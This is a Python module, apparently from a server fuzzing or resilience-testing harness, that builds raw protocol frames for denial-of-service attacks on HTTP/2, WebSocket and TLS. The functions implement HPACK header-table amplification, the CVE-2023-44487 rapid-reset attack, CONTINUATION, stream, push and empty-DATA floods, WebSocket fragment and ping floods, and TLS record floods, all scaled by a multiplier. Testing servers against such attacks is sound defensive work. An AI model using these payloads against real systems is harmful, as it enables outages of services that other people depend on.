"""Attacks on what comes in frames: HTTP/2, WebSocket, TLS."""

from __future__ import annotations

from collections.abc import Callable

from attacks_talks import Talk, get
from fuzz_mutators import PREFACE, prefixed

# -- HTTP/2 ---------------------------------------------------------------------------


def h2(kind: int, flags: int, stream: int, body: bytes) -> bytes:
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


def begun(talk: Talk) -> None:
    talk.ask(PREFACE + h2(4, 0, 0, b""), h2(4, 0, 0, b"") + h2(4, 1, 0, b""))


REQUEST = b"\x82\x86\x84\x01\1a"  # GET http / and the authority a: RFC 7541 §6


def references(talk: Talk, scale: int) -> None:
    """One field of 4 000 octets in the table, and references to it."""
    begun(talk)
    talk.send(0, h2(1, 5, 1, REQUEST + b"\x40\1x" + prefixed(3_900, 7, 0) + b"v" * 3_900))
    for number in range(40 * scale):
        talk.send(0, h2(1, 5, 3 + 2 * number, REQUEST + b"\xbe" * 1_000))


def references_to_cookies(talk: Talk, scale: int) -> None:
    begun(talk)
    talk.send(0, h2(1, 5, 1, REQUEST + b"\x60" + prefixed(3_900, 7, 0) + b"sid=" + b"v" * 3_896))
    for number in range(40 * scale):
        talk.send(0, h2(1, 5, 3 + 2 * number, REQUEST + b"\xbe" * 1_000))


def table_of_empty_names(talk: Talk, scale: int) -> None:
    begun(talk)
    for number in range(30 * scale):
        talk.send(0, h2(1, 5, 1 + 2 * number, REQUEST + b"\x40\0\0" * 600))


def flood(kind: int, body: bytes, count: int, flags: int = 0) -> Callable[[Talk, int], None]:
    def attack(talk: Talk, scale: int) -> None:
        begun(talk)
        talk.send(0, h2(kind, flags, 0, body) * (count * scale))

    return attack


def rapid_resets(talk: Talk, scale: int) -> None:
    """CVE-2023-44487: a stream is asked for and given up at once."""
    begun(talk)
    talk.send(
        0,
        b"".join(
            h2(1, 5, 1 + 2 * number, REQUEST) + h2(3, 0, 1 + 2 * number, bytes(3) + b"\x08")
            for number in range(1_000 * scale)
        ),
    )


def continuations(talk: Talk, scale: int) -> None:
    begun(talk)
    talk.send(0, h2(1, 1, 1, REQUEST) + h2(9, 0, 1, b"\x82") * (3_000 * scale))


def open_streams(talk: Talk, scale: int) -> None:
    begun(talk)
    talk.send(0, b"".join(h2(1, 4, 1 + 2 * number, REQUEST) for number in range(2_000 * scale)))


def pushes(talk: Talk, scale: int) -> None:
    begun(talk)
    talk.send(0, h2(1, 5, 1, REQUEST))
    talk.send(
        1, b"".join(h2(5, 4, 1, (2 + 2 * number).to_bytes(4, "big") + REQUEST) for number in range(1_500 * scale))
    )


def empty_data(talk: Talk, scale: int) -> None:
    begun(talk)
    talk.send(0, h2(1, 4, 1, REQUEST) + h2(0, 0, 1, b"") * (4_000 * scale))


# -- WebSocket, TLS ---------------------------------------------------------------------------


def upgraded(talk: Talk) -> None:
    talk.ask(
        get(
            "/",
            "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
        ),
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n",
    )


def fragments_of_a_message(talk: Talk, scale: int) -> None:
    upgraded(talk)
    talk.send(1, b"\1\0" + b"\0\1a" * (8_000 * scale))


def pings_of_websocket(talk: Talk, scale: int) -> None:
    upgraded(talk)
    talk.send(1, b"\x89\1a" * (8_000 * scale))


def small_messages(talk: Talk, scale: int) -> None:
    upgraded(talk)
    talk.send(1, b"".join(b"\x81\7tok=%03d" % (at % 1_000) for at in range(4_000 * scale)))


def records_of_tls(talk: Talk, scale: int) -> None:
    talk.send(0, b"\x16\3\1\0\1\1" * (5_000 * scale))


def tickets(talk: Talk, scale: int) -> None:
    """Handshake messages of no length, several to a record."""
    talk.send(0, b"\x16\3\3\1\x90" + b"\0\0\0\0" * 100)
    talk.send(1, (b"\x16\3\3\1\x90" + b"\4\0\0\0" * 100) * (100 * scale))
